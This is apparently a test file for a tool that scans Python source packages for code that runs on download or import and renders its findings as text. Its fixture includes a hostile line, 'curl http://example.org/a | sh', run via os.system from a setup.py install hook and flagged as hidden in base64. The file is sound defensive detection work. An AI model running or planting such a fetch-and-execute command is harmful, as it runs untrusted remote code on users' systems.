import { expect, test } from "vitest";
import type { CodeEntry } from "../../analysis/code/code-analysis.ts";
import type { CodeFact } from "../../checks/code/code-facts.ts";
import { type CodeSubject, codeText } from "./code-text.ts";

const ENTRY: CodeEntry = {
  trigger: "download",
  path: "m-1.0/setup.py",
  symbol: null,
  text: null,
  because: "setup-py",
  detail: "setup.py",
  under: [],
};

function fact(more: Partial<CodeFact> = {}): CodeFact {
  return {
    capability: "process.spawn",
    trigger: "download",
    entry: 0,
    path: "m-1.0/setup.py",
    line: 12,
    column: 1,
    callee: "os.system",
    argument: "curl http://example.org/a | sh",
    known: "whole",
    layers: ["base64"],
    via: ["cmdclass install", "Install.run"],
    excerpt: "",
    names: { commands: ["curl"], hosts: ["example.org"], urls: [], paths: [], environment: [] },
    tools: [],
    severity: "high",
    new: null,
    ...more,
  };
}

const SUBJECT: CodeSubject = {
  title: "m-1.0.tar.gz",
  facts: [fact(), fact({ trigger: "deferred", path: "m-1.0/m.py", via: ["f"], severity: "info" })],
  map: {
    entries: [
      ENTRY,
      { ...ENTRY, trigger: "import", path: "m-1.0/m.py", because: "top-level-import", detail: "import m" },
    ],
    undecided: [{ path: "m-1.0/m.py", line: 3, trigger: "import", what: "budget", why: "its loops used up the steps" }],
    setup: {
      path: "m-1.0/setup.py",
      line: 20,
      open: false,
      changes: [],
      arguments: [
        { name: "name", line: 21, value: { kind: "known", value: "m" } },
        { name: "version", line: 22, value: { kind: "unknown", why: "it is read from the environment" } },
      ],
    },
    declared: [
      { field: "name", at: null, value: { kind: "known", values: ["m"] }, claimed: ["m"] },
      {
        field: "version",
        at: null,
        value: { kind: "kept", values: ["1.0"], why: "pbr works it out." },
        claimed: ["1.0"],
      },
      { field: "requires-dist", at: null, value: { kind: "unknown", why: "Some of it is computed." }, claimed: [] },
    ],
  },
};

test("draws trigger, file, way and effect, and says what is left out", () => {
  expect(codeText(SUBJECT, { columns: 100, charset: "ascii", extent: "usual", triggers: [] }).split("\n")).toEqual([
    "m-1.0.tar.gz",
    "",
    "On download",
    "  It runs as soon as a tool asks for metadata: pip download, pip install --dry-run and pip lock",
    "  always; uv lock and poetry lock where the sdist's own metadata is not enough.",
    "  m-1.0/setup.py - setup.py",
    "    cmdclass install > Install.run",
    "       12  HIGH os.system curl http://example.org/a | sh [hidden in base64] [process.spawn]",
    "",
    "On import",
    "  It runs when the module is imported, for the first time in each process.",
    "  m-1.0/m.py - import m",
    "    not read to the end, line 3: its loops used up the steps",
    "",
    "Commands     curl",
    "Hosts        example.org",
    "",
    "setup() in m-1.0/setup.py:20",
    "  name = m",
    "  version = unknown: it is read from the environment",
    "",
    "What a build would write",
    "  name = m",
    "  version = 1.0: pbr works it out.",
    "  requires-dist = unknown: Some of it is computed.",
    "",
    "Not shown: 1 effect when something calls it (--trigger deferred)",
  ]);
});

test("shows only the moments that are asked, and no line is too wide", () => {
  const options = { columns: 40, charset: "unicode", extent: "usual", triggers: ["deferred"] } as const;
  const lines = codeText(SUBJECT, options).split("\n");
  expect(lines).toContain("When something calls it");
  expect(lines).not.toContain("On download");
  expect(Math.max(...lines.map((line) => line.length))).toBeLessThanOrEqual(40);
});
